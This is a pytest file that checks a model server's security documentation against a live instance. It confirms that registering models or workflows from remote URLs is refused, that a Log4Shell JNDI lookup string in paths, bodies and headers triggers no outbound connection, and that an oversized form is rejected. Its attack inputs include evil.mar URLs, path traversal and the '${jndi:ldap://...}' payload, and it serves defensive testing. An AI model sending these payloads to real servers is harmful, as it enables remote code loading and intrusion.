"""What docs/operations/security.md claims of the server, tried on a live one.

A listener counts who connects to it: what is refused must also not have been looked at.
"""

import socket
from pathlib import Path

import grpc
import psutil
import pytest
import requests

from deploy.server import HOST, Server
from tests.support import live
from tests.support.live import ARCHIVE, listener


def test_the_listener_counts_connections() -> None:
    with listener() as (host, opened):
        assert requests.get(f"http://{host}/x", timeout=30).content == ARCHIVE.read_bytes()
        socket.create_connection((HOST, opened.server_port)).close()
        live.wait(lambda: opened.connections == 2)  # the listener's thread may come later


def models(server: Server) -> list[str]:
    url = f"http://{HOST}:{server.ports.management}/models"
    return [model["modelName"] for model in requests.get(url, timeout=30).json()["models"]]


@pytest.mark.parametrize(
    "location",
    ["http://{host}/evil.mar", "dcgan.mar", "file://{archive}", "file://x@{host}/evil.mar"],
)
def test_no_model_is_registered_over_http(server: Server, location: str) -> None:
    """CVE-2023-43654 and CVE-2024-35198 need this door; enable_model_api=false shuts it."""
    with listener() as (host, opened):
        url = location.format(host=host, archive=ARCHIVE)
        management = f"http://{HOST}:{server.ports.management}"
        refused = requests.post(
            f"{management}/models", params={"url": url, "model_name": "evil"}, timeout=60
        )
    assert refused.status_code == 405
    assert opened.connections == 0
    assert models(server) == ["dcgan"]


def test_no_model_is_removed_over_http(server: Server) -> None:
    management = f"http://{HOST}:{server.ports.management}/models/{server.model}"
    assert requests.delete(management, timeout=60).status_code == 405
    assert requests.delete(f"{management}/1.0", timeout=60).status_code == 405
    assert models(server) == ["dcgan"]


@pytest.mark.parametrize(
    "location",
    [
        "http://{host}/evil.war", "file://{archive}", "../../evil.war", "evil.war", "dcgan.mar",
        "none", "",
    ],
)  # fmt: skip
def test_no_workflow_is_registered_over_http(server: Server, location: str) -> None:
    """enable_model_api does not cover workflows in 0.12; allowed_urls and workflow_store do."""
    with listener() as (host, opened):
        url = location.format(host=host, archive=ARCHIVE)
        refused = requests.post(
            f"http://{HOST}:{server.ports.management}/workflows", params={"url": url}, timeout=60
        )
    # A word that allowed_urls allows is no address that could be fetched.
    assert refused.status_code == (400 if location == "none" else 404)
    assert refused.json()["type"].startswith(("WorkflowNotFound", "DownloadArchive"))
    assert opened.connections == 0


def test_the_inference_port_manages_nothing(server: Server) -> None:
    base = f"http://{HOST}:{server.ports.inference}"
    for path in ("/models", "/models/dcgan", "/workflows", "/metrics", "/token?type=inference"):
        assert requests.get(base + path, timeout=30).status_code == 404
    assert requests.post(f"{base}/models?url=dcgan.mar", timeout=30).status_code == 404


def test_no_model_is_registered_over_grpc(server: Server, tmp_path: Path) -> None:
    messages, services = live.compiled(tmp_path, "management")
    with (
        listener() as (host, opened),
        grpc.insecure_channel(f"{HOST}:{server.ports.grpc_management}") as channel,
    ):
        stub = services.ManagementAPIsServiceStub(channel)
        request = messages.RegisterModelRequest(url=f"http://{host}/evil.mar", model_name="evil")
        with pytest.raises(grpc.RpcError) as refused:
            stub.RegisterModel(request, timeout=60)
        assert refused.value.code() == grpc.StatusCode.PERMISSION_DENIED
    assert opened.connections == 0
    assert models(server) == ["dcgan"]


def test_nothing_a_client_sends_is_looked_up(server: Server) -> None:
    """CVE-2021-44228: a logger that follows addresses in what it logs."""
    with listener() as (host, opened):
        lookup = f"${{jndi:ldap://{host}/x}}"
        requests.post(
            f"{server.predict_url}/{lookup}",
            json={"seed": lookup, lookup: 1},
            headers={"User-Agent": lookup, "X-Request-Id": lookup, "describe": lookup},
            timeout=60,
        )
        assert (
            requests.post(server.predict_url, json={"seed": lookup}, timeout=60).status_code == 400
        )
    assert opened.connections == 0


@pytest.mark.usefixtures("unharmed")
def test_a_form_of_very_many_fields_harms_nobody(server: Server) -> None:
    """CVE-2024-29025: Netty keeps every field, so the limit of the body is what bounds them."""
    form = "&".join(f"{i:x}=" for i in range(50_000))
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    refused = requests.post(server.predict_url, data=form, headers=headers, timeout=60)
    assert refused.status_code == 400


def test_every_port_is_on_the_loopback_interface(server: Server) -> None:
    """gRPC too, which CVE-2024-35199 had on every interface."""
    addresses = {
        connection.laddr.ip.removeprefix("::ffff:")
        for process in (live.worker(server), live.java(live.worker(server)))
        for connection in process.net_connections("inet")
        if connection.status == psutil.CONN_LISTEN
    }
    assert addresses == {HOST}
